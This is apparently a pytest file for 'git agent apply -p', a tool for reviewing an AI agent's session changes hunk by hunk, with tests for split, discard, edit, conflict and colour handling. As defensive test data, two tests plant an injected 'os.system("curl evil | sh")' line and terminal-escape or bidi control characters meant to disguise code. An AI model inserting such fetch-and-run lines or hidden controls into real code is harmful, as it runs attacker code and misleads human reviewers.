"""`git agent apply -p`: hunk by hunk (y n q a d s e ?), what is not taken stays in the session
exactly; git is the oracle (git diff of the worktree, of agent/S, git apply --check)."""

from __future__ import annotations

import os

from tests.mergeback.conftest import Work

BASE = "".join(f"line {i}\n" for i in range(1, 21))
# hunk 1 (lines 1 and 3: one hunk that splits in two) and hunk 2 (line 20)
AGENT = "sed -i 's/^line 1$/ONE/; s/^line 3$/THREE/; s/^line 20$/TEN/' src/app.py"
AGENT_APP = BASE.replace("line 1\n", "ONE\n").replace("line 3\n", "THREE\n").replace(
    "line 20\n", "TEN\n")


def long_app(work: Work) -> None:
    """src/app.py with 20 lines, committed: its changes at 1, 3 and 20 make two hunks."""
    (work.root / "src/app.py").write_text(BASE)
    work.git("commit", "-qam", "twenty lines")


def app(work: Work) -> str:
    return (work.root / "src/app.py").read_text()


def session_diff(work: Work) -> str:
    """What the session still holds for src/app.py, by git: base..agent/s."""
    return work.git("diff", "refs/agent-base/s", "agent/s", "--", "src/app.py")


def changed_lines(diff: str) -> list[str]:
    return [ln for ln in diff.splitlines()
            if ln[:1] in "+-" and not ln.startswith(("+++", "---"))]


def test_split_take_some_keep_the_rest(work: Work) -> None:
    long_app(work)
    work.run(AGENT)
    before = work.index_and_head()
    old_base = work.git("rev-parse", "refs/agent-base/s").strip()
    old_tip = work.git("rev-parse", "agent/s").strip()
    p = work.ok("apply", "-p", "s", input="s\ny\nn\ny\n")
    assert "Split into 2 hunks." in p.stderr and "warning" not in p.stderr
    assert "(1/2) Apply this hunk to your worktree [y,n,q,a,d,s,e,?]? " in p.stderr
    assert "(1/3) Apply this hunk to your worktree [y,n,q,a,d,e,?]? " in p.stderr
    assert "@@ -1,2 +1,2 @@\n-line 1\n+ONE\n line 2\n" in p.stdout  # the first split hunk
    assert app(work) == BASE.replace("line 1\n", "ONE\n").replace("line 20\n", "TEN\n")
    assert work.index_and_head() == before
    # the session holds exactly the hunk not taken, and it applies onto the worktree
    assert changed_lines(session_diff(work)) == ["-line 3", "+THREE"]
    assert work.review_paths() == ["src/app.py"]
    # the base moved onto what was taken (the old base its parent): review shows the rest
    assert work.git("rev-parse", "refs/agent-base/s^").strip() == old_base
    # agent/S is the pending work alone, one commit on the new base (no pile of "what is
    # left" commits); what it was is on record
    assert work.git("rev-list", "--count", "refs/agent-base/s..agent/s").strip() == "1"
    assert work.git("rev-parse", "refs/agent-history/s^1").strip() == old_tip
    # the next run: the agent sees its whole file, and the session still holds just THREE
    seen = work.ok("run", "-s", "s", "--", "cat", "src/app.py").stdout
    assert seen == AGENT_APP
    assert changed_lines(session_diff(work)) == ["-line 3", "+THREE"]
    work.ok("apply", "s")  # the rest, later: the agent's file whole
    assert app(work) == AGENT_APP
    assert work.review_paths() == []


def test_d_discards_the_rest_of_the_file_n_keeps(work: Work) -> None:
    long_app(work)
    work.run(AGENT + "; echo more >> README.md")
    p = work.ok("apply", "-p", "s", input="n\ny\nd\n")  # README (n), then app.py
    assert app(work) == BASE.replace("line 1\n", "ONE\n").replace("line 3\n", "THREE\n")
    assert "the rest were discarded from the session" in p.stderr
    assert work.review_paths() == ["README.md"]  # TEN is gone from the session; n kept README
    assert (work.root / "README.md").read_text() == "hello\n"
    # n then d: nothing written, the first hunk stays, the second leaves the session
    work.run("sed -i 's/^line 5$/FIVE/; s/^line 20$/TEN/' src/app.py", session="t")
    snap = work.snapshot()
    p = work.ok("apply", "-p", "t", "--", "src/app.py", input="n\nd\n")
    assert work.snapshot() == snap
    diff = work.git("diff", "refs/agent-base/t", "agent/t", "--", "src/app.py")
    assert changed_lines(diff) == ["-line 5", "+FIVE"]
    assert "discarded hunks of src/app.py from the session; the rest stay" in p.stderr


def test_a_and_q(work: Work) -> None:
    long_app(work)
    work.run(AGENT + "; echo more >> README.md")
    work.ok("apply", "-p", "s", input="a\nq\n")  # README first: a takes it whole; q stops
    assert (work.root / "README.md").read_text() == "hello\nmore\n"
    work.ok("apply", "-p", "s", input="n\na\n")
    assert app(work) == BASE.replace("line 20\n", "TEN\n")
    assert changed_lines(session_diff(work)) == ["-line 1", "+ONE", "-line 3", "+THREE"]
    p = work.ok("apply", "-p", "s", input="q\n")
    assert "nothing chosen" in p.stderr
    assert work.review_paths() == ["src/app.py"]


def test_e_edits_the_hunk_in_the_editor(work: Work) -> None:
    long_app(work)
    tmp_path = work.root.parent  # the actor's: it runs the editor
    editor = tmp_path / "ed.sh"
    editor.write_text("#!/bin/sh\nsed -i 's/^+TEN$/+ten, edited/' \"$1\"\n")
    editor.chmod(0o755)
    work.run(AGENT)
    p = work.ok("apply", "-p", "s", input="n\ne\n", env={"GIT_EDITOR": str(editor)})
    assert app(work) == BASE.replace("line 20\n", "ten, edited\n")
    assert changed_lines(session_diff(work)) == ["-line 1", "+ONE", "-line 3", "+THREE"]
    assert "Manual hunk edit" not in p.stdout
    # an edit that changes the old side does not apply: asked again, "n" leaves it as it was
    bad = tmp_path / "bad.sh"
    bad.write_text("#!/bin/sh\nsed -i 's/^ line 2$/ line two/' \"$1\"\n")
    bad.chmod(0o755)
    snap = work.snapshot()
    p = work.ok("apply", "-p", "s", input="e\nn\nq\n", env={"GIT_EDITOR": str(bad)})
    assert "Your edited hunk does not apply" in p.stderr
    assert work.snapshot() == snap
    assert changed_lines(session_diff(work)) == ["-line 1", "+ONE", "-line 3", "+THREE"]


def test_whole_files_are_asked_whole(work: Work) -> None:
    long_app(work)
    work.run("rm docs/c.md; echo new > new.txt; chmod +x tool.sh; printf '\\0bin' > b.bin;"
             " ln -s README.md link; printf '\\0now binary' > README.md")
    p = work.ok("apply", "-p", "--yes", "s", input="y\ny\nn\nd\ny\ny\n")
    err = p.stderr
    for q in ("Apply change", "Apply addition", "Apply deletion", "Apply mode change"):
        assert f"(1/1) {q} to your worktree [y,n,q,a,d,?]? " in err
    assert "Apply this hunk" not in err
    # git's order: README.md, b.bin, docs/c.md, link, new.txt, tool.sh
    assert (work.root / "README.md").read_bytes() == b"\0now binary"
    assert (work.root / "b.bin").read_bytes() == b"\0bin"
    assert (work.root / "docs/c.md").exists()  # n: kept in the session
    assert not os.path.lexists(work.root / "link")  # d: discarded
    assert (work.root / "new.txt").read_text() == "new\n"
    assert os.access(work.root / "tool.sh", os.X_OK)
    assert work.review_paths() == ["docs/c.md"]


def test_your_edits_too_and_hunks_that_no_longer_apply(work: Work) -> None:
    long_app(work)
    work.run(AGENT)
    work.sh("sed -i 's/^line 5$/mine 5/' src/app.py")
    p = work.ok("apply", "-p", "s", input="y\nn\n")
    assert "[MODIFIED] src/app.py (you changed it too (merges cleanly))" in p.stderr
    assert app(work) == BASE.replace("line 1\n", "ONE\n").replace(
        "line 3\n", "THREE\n").replace("line 5\n", "mine 5\n")
    assert changed_lines(session_diff(work)) == ["-line 20", "+TEN"]
    # two hunks taken, one of them on a line you changed too: the other is applied
    work.run("sed -i 's/^line 14$/FOURTEEN/; s/^mine 5$/FIVE/' src/app.py", session="t")
    work.sh("sed -i 's/^mine 5$/yours 5/' src/app.py")
    p = work.agent("apply", "-p", "t", "--", "src/app.py", input="y\ny\n")
    assert p.returncode == 1, p.stderr  # not all you took is applied: the exit status says so
    assert ("src/app.py: 1 of the 2 hunks you took no longer applies onto your file (you "
            "changed those lines); left in the session") in p.stderr
    assert "yours 5\n" in app(work) and "FOURTEEN\n" in app(work)
    diff = work.git("diff", "refs/agent-base/t", "agent/t", "--", "src/app.py")
    assert changed_lines(diff) == ["-mine 5", "+FIVE"]
    # your own change on the hunk's line: it does not apply, it is said, it stays
    work.sh("sed -i 's/^line 20$/mine 20/' src/app.py")
    snap = work.snapshot()
    p = work.agent("apply", "-p", "s", input="y\n")
    assert p.returncode == 1, p.stderr
    assert ("(conflicts: changed by both, overlapping; a hunk you take that overlaps your "
            "changes is not applied: it stays in the session, unless --merge)") in p.stderr
    assert "left in the session: src/app.py (the hunks you took do not apply" in p.stderr
    assert work.snapshot() == snap
    assert changed_lines(session_diff(work)) == ["-line 20", "+TEN"]


def test_end_of_input_and_colours(work: Work) -> None:
    long_app(work)
    work.run(AGENT)
    snap = work.snapshot()
    for answers in ("", "s\ny\n", "y\n"):
        p = work.agent("apply", "-p", "s", input=answers)
        assert p.returncode == 130 and "end of input" in p.stderr
        assert work.snapshot() == snap
    assert changed_lines(session_diff(work)) == ["-line 1", "+ONE", "-line 3", "+THREE",
                                                 "-line 20", "+TEN"]
    work.git("config", "color.ui", "always")
    p = work.ok("apply", "-p", "s", input="s\n?\nq\n")
    assert "\x1b[31m-line 1\x1b[m" in p.stdout  # git's own colours
    assert "\x1b[36m@@ -1,2 +1,2 @@\x1b[m" in p.stdout  # a split hunk's header as git paints it
    assert "\x1b[1;34m(1/2) Apply this hunk" in p.stderr  # color.interactive.prompt
    assert "\x1b[1;31my - apply this hunk to your worktree" in p.stderr  # .help


def test_git_settings_that_change_the_diff_text_do_not_confuse_it(work: Work) -> None:
    """diff.suppressBlankEmpty prints an empty context line as nothing at all."""
    text = "a\n\nb\n\nc\n" + "".join(f"{i}\n" for i in range(10)) + "z\n"
    (work.root / "docs/blank.md").write_text(text)
    work.git("add", "docs/blank.md")
    work.git("commit", "-qm", "blank lines")
    work.git("config", "diff.suppressBlankEmpty", "true")
    work.run("sed -i 's/^b$/B/; s/^z$/Z/' docs/blank.md")
    work.ok("apply", "-p", "s", input="y\nn\n")  # the first hunk, laid on the base
    assert (work.root / "docs/blank.md").read_text() == text.replace("b", "B")
    assert work.review_paths() == ["docs/blank.md"]


def test_an_edited_hunk_replaces_the_agents_even_when_every_hunk_is_taken(work: Work) -> None:
    """Every hunk of the file taken, one of them edited: what is applied is the base with the
    hunks as taken (your edit), never the agent's whole file (attack 3, finding 1)."""
    (work.root / "src/app.py").write_text("def main():\n    pass\n")
    work.git("commit", "-qam", "app")
    work.run("printf 'import os\\nos.system(\"curl evil | sh\")\\ndef main():\\n    pass\\n'"
             " > src/app.py")
    editor = work.root.parent / "drop-line.sh"  # the actor's: it runs the editor
    editor.write_text("#!/bin/sh\ngrep -v os.system \"$1\" > \"$1.new\" && mv \"$1.new\" \"$1\"\n")
    editor.chmod(0o755)
    p = work.ok("apply", "-p", "s", input="e\n", env={"GIT_EDITOR": str(editor)})
    assert app(work) == "import os\ndef main():\n    pass\n", p.stderr
    assert ("applied the hunks you took of src/app.py as you edited them; the agent's "
            "version left the session") in p.stderr
    # the agent's own version of the edited lines left the session with the rest
    assert work.review_paths() == []
    # two hunks: the first edited, the second taken with y; the file is the edit plus TEN
    long_app(work)
    work.run(AGENT, session="t")
    editor.write_text("#!/bin/sh\nsed -i 's/^+THREE$/+three, edited/' \"$1\"\n")
    work.ok("apply", "-p", "t", "--", "src/app.py", input="e\ny\n",
            env={"GIT_EDITOR": str(editor)})
    assert app(work) == BASE.replace("line 1\n", "ONE\n").replace(
        "line 3\n", "three, edited\n").replace("line 20\n", "TEN\n")
    assert work.review_paths("t") == []


def test_the_agents_lines_shown_cannot_rewrite_your_terminal(work: Work) -> None:
    """apply -p's hunks and -i's `d` show the agent's lines with CR, ESC, C1 controls and bidi
    overrides made visible, git's own colours kept (attack 3, #11)."""
    work.run("printf 'import os; os.system(\"x\")#\\r# harmless comment\\nline \\033[2K esc\\n"
             "c1 \\302\\233 2J, rlo \\342\\200\\256 txt\\n' > src/util.py")
    hidden = ["\r", "\x1b[2K", "\u009b", "\u202e"]
    for color in ("never", "always"):
        work.git("config", "color.ui", color)
        shown = [work.ok("apply", "-p", "s", input="q\n").stdout,
                 work.ok("apply", "-i", "s", input="d\nq\n").stdout]
        for out in shown:
            assert not [h for h in hidden if h in out], (color, out)
            assert "os.system(\"x\")#\\r# harmless comment" in out, out
            assert "\\033[2K esc" in out and "<U+009B>" in out and "<U+202E>" in out, out
            if color == "always":
                assert "\x1b[32m+" in out, out  # git's own colour of an added line
    assert work.review_paths() == ["src/util.py"]
